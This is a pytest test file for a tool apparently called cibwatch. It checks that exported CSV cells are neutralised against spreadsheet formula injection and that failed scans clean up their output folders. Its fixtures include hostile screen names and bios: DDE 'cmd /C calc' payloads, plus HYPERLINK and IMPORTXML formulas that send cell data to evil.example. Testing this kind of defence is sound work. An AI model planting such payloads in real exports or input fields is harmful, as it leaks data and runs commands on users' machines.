"""What `scan` leaves on disk: spreadsheet-safe CSV cells, no silent merge into an old --out, and no
partial folder after a failed run."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import polars as pl
import pytest

from cibwatch.cli.main import main
from cibwatch.errors import CibwatchError, ConfigError
from cibwatch.export import FORMULA_START, neutralize, write_csv
from cibwatch.scan import output_folder, scan
from cibwatch.sim import simulate

# Screen names an attacker could choose; each would run as a formula in a spreadsheet.
HOSTILE = {
    0: '=HYPERLINK("http://evil.example/?"&A1,"click")',
    1: "+1+cmd|' /C calc'!A0",
    2: "-2+3",
    3: "@SUM(1+1)*cmd|' /C calc'!A0",
    4: "\t=1+1",
}


def _run(argv: list[str]) -> int:
    try:
        main([str(a) for a in argv])
    except SystemExit as exc:
        return int(exc.code or 0)
    return 0


@pytest.fixture(scope="module")
def hostile_inputs(tmp_path_factory: pytest.TempPathFactory) -> tuple[list[Path], dict[str, str]]:
    """A small simulated platform whose first accounts have hostile screen names and bios."""
    root = tmp_path_factory.mktemp("hostile")
    simulate("demo", out=root / "sim", seed=3, accounts=300, days=1)
    files = sorted((root / "sim" / "posts").glob("*.jsonl"))
    renamed: dict[str, str] = {}
    for path in files:
        lines = []
        for line in path.read_text().splitlines():
            page = json.loads(line)
            for user in page.get("includes", {}).get("users", []):
                if user["id"] not in renamed and len(renamed) < len(HOSTILE):
                    renamed[user["id"]] = HOSTILE[len(renamed)]
                if user["id"] in renamed:
                    user["username"] = renamed[user["id"]]
                    user["description"] = '=IMPORTXML(CONCAT("http://evil.example/", A1), "//a")'
            lines.append(json.dumps(page))
        path.write_text("\n".join(lines) + "\n")
    assert len(renamed) == len(HOSTILE)
    return files, renamed


@pytest.fixture(scope="module")
def hostile_scan(hostile_inputs, tmp_path_factory: pytest.TempPathFactory) -> Path:
    files, _ = hostile_inputs
    out = tmp_path_factory.mktemp("scan") / "out"
    assert _run(["scan", *files, "--out", out, "--no-report", "-q"]) == 0
    return out


def _cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def test_hostile_screen_names_are_text_in_accounts_csv(hostile_inputs, hostile_scan: Path) -> None:
    _, renamed = hostile_inputs
    rows = _cells(hostile_scan / "accounts.csv")
    header = rows[0]
    by_id = {row[header.index("account_id")]: row for row in rows[1:]}
    for account_id, name in renamed.items():
        # The name is kept, behind the one quote a spreadsheet reads as "this is text".
        assert by_id[account_id][header.index("screen_name")] == "'" + name
    written = [hostile_scan / "accounts.csv", hostile_scan / "campaigns.csv"]
    for path in [*written, *(hostile_scan / "coord").glob("*.csv")]:
        for row in _cells(path):
            bad = [cell for cell in row if cell.startswith(FORMULA_START)]
            assert not bad, f"{path.name}: a spreadsheet would evaluate {bad}"
    # Numbers stay numbers: the score columns still read as floats.
    accounts = pl.read_csv(hostile_scan / "accounts.csv", schema_overrides={"account_id": pl.String})
    assert accounts.schema["bot_score"] == pl.Float64
    assert accounts.schema["coordination_score"] == pl.Float64


def test_bots_score_csv_is_neutralized_too(hostile_inputs, tmp_path: Path) -> None:
    files, renamed = hostile_inputs
    out = tmp_path / "scores.csv"
    assert _run(["bots", "score", *files, "--out", out, "-q"]) == 0
    names = {row[1] for row in _cells(out)[1:]} if "screen_name" in _cells(out)[0] else set()
    rows = _cells(out)
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]
    if names:
        assert {"'" + n for n in renamed.values()} <= names


def test_neutralize_changes_only_text_cells() -> None:
    frame = pl.DataFrame(
        {
            "name": ["=1+1", "+a", "-b", "@c", "\td", "\re", "ok", "a=b", None, "'=quoted"],
            "score": [-1.5, -0.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0, 9.0],
            "n": [-1, -2, 3, 4, 5, 6, 7, 8, 9, 10],
        }
    ).with_columns(kind=pl.col("name").cast(pl.Categorical))
    safe = neutralize(frame)
    assert safe["name"].to_list() == [
        "'=1+1", "'+a", "'-b", "'@c", "'\td", "'\re", "ok", "a=b", None, "'=quoted",
    ]  # fmt: skip
    assert safe["kind"].to_list() == safe["name"].to_list()
    assert safe["score"].to_list() == frame["score"].to_list()  # negative numbers stay numbers
    assert safe["n"].dtype == pl.Int64 and safe["n"].to_list() == frame["n"].to_list()


def test_write_csv_round_trips_numbers_and_leaves_no_temporary_file(tmp_path: Path) -> None:
    path = write_csv(pl.DataFrame({"screen_name": ["-5"], "bot_score": [-0.25]}), tmp_path / "a.csv")
    assert path.read_text() == "screen_name,bot_score\n'-5,-0.25\n"
    assert [p.name for p in tmp_path.iterdir()] == ["a.csv"]


def test_scan_refuses_a_non_empty_out_unless_append(hostile_inputs, hostile_scan: Path, capsys) -> None:
    files, _ = hostile_inputs
    before = sorted(p.relative_to(hostile_scan) for p in hostile_scan.rglob("*"))
    accounts = (hostile_scan / "accounts.csv").read_bytes()
    assert _run(["scan", *files, "--out", hostile_scan, "--no-report", "-q"]) == 1
    err = " ".join(capsys.readouterr().err.split())
    assert f"The output folder {hostile_scan} is not empty" in err and "Pass --append" in err
    # Refused before any work: nothing in the folder changed.
    assert sorted(p.relative_to(hostile_scan) for p in hostile_scan.rglob("*")) == before
    assert (hostile_scan / "accounts.csv").read_bytes() == accounts

    # --demo checks before it writes its simulated input.
    assert _run(["scan", "--demo", "--out", hostile_scan, "-q"]) == 1
    assert "Pass --append" in capsys.readouterr().err
    assert not (hostile_scan / "demo-input").exists()

    # --append merges into the case in it (the same records again: all duplicates) and rewrites.
    assert _run(["scan", *files, "--out", hostile_scan, "--no-report", "-q", "--append"]) == 0
    again = pl.read_csv(hostile_scan / "accounts.csv", infer_schema_length=0)
    first = pl.read_csv(accounts, infer_schema_length=0)
    assert again.sort("account_id")["account_id"].equals(first.sort("account_id")["account_id"])


def test_an_empty_existing_out_is_fine(tmp_path: Path) -> None:
    out = tmp_path / "empty"
    out.mkdir()
    with output_folder(out) as folder:
        (folder / "accounts.csv").write_text("account_id\n")
    assert [p.name for p in out.iterdir()] == ["accounts.csv"]


def test_out_that_is_a_file_is_refused(tmp_path: Path) -> None:
    target = tmp_path / "out.txt"
    target.write_text("keep me")
    with pytest.raises(ConfigError, match="is a file"):
        scan([tmp_path / "x.jsonl"], target)
    assert target.read_text() == "keep me"


def test_a_failed_scan_leaves_no_folder_it_created(hostile_inputs, tmp_path: Path, capsys) -> None:
    files, _ = hostile_inputs
    # An input error (what users meet): ingest fails after the output folders were made.
    out = tmp_path / "new" / "deeper" / "out"
    assert _run(["scan", *files[:1], "--out", out, "--format", "cresci", "--no-report", "-q"]) != 0
    assert "Error:" in capsys.readouterr().err
    assert not (tmp_path / "new").exists(), "the parents it created are removed too"


def test_a_failed_demo_removes_its_simulated_input(tmp_path: Path, monkeypatch) -> None:
    import cibwatch.scan

    seen = []

    def broken(inputs, out, **kwargs):
        seen.extend(inputs)
        raise CibwatchError("ingest failed")

    monkeypatch.setattr(cibwatch.scan, "_scan", broken)
    out = tmp_path / "demo"
    assert _run(["scan", "--demo", "--out", out, "-q"]) == 1
    assert seen and all(str(p).startswith(str(out / "demo-input")) for p in seen)
    assert not out.exists()


def test_a_failed_stage_removes_only_what_the_run_added(hostile_inputs, tmp_path: Path, monkeypatch) -> None:
    files, _ = hostile_inputs
    import cibwatch.bots

    def broken(*args, **kwargs):
        raise RuntimeError("bot scoring failed")

    # The first stage after ingest fails: ingest has written the case by then.
    monkeypatch.setattr(cibwatch.bots, "run", broken)

    # A folder that existed (empty): it stays, empty.
    empty = tmp_path / "empty"
    empty.mkdir()
    with pytest.raises(RuntimeError, match="bot scoring failed"):
        scan(files[:1], empty, report=False)
    assert empty.is_dir() and not any(empty.iterdir())

    # --append into a folder with the user's own files: those stay untouched, the new entries go.
    kept = tmp_path / "kept"
    kept.mkdir()
    (kept / "notes.txt").write_text("mine")
    (kept / "old").mkdir()
    (kept / "old" / "x.csv").write_text("a\n1\n")
    with pytest.raises(RuntimeError):
        scan(files[:1], kept, report=False, append=True)
    assert sorted(p.name for p in kept.iterdir()) == ["notes.txt", "old"]
    assert (kept / "notes.txt").read_text() == "mine" and (kept / "old" / "x.csv").read_text() == "a\n1\n"

    # A new folder: gone.
    new = tmp_path / "new"
    with pytest.raises(RuntimeError):
        scan(files[:1], new, report=False)
    assert not new.exists()


def test_output_folder_cleanup_fires_for_cibwatch_errors(tmp_path: Path) -> None:
    out = tmp_path / "o"
    with pytest.raises(CibwatchError), output_folder(out) as folder:
        (folder / "case").mkdir()
        raise CibwatchError("a stage said no")
    assert not out.exists()
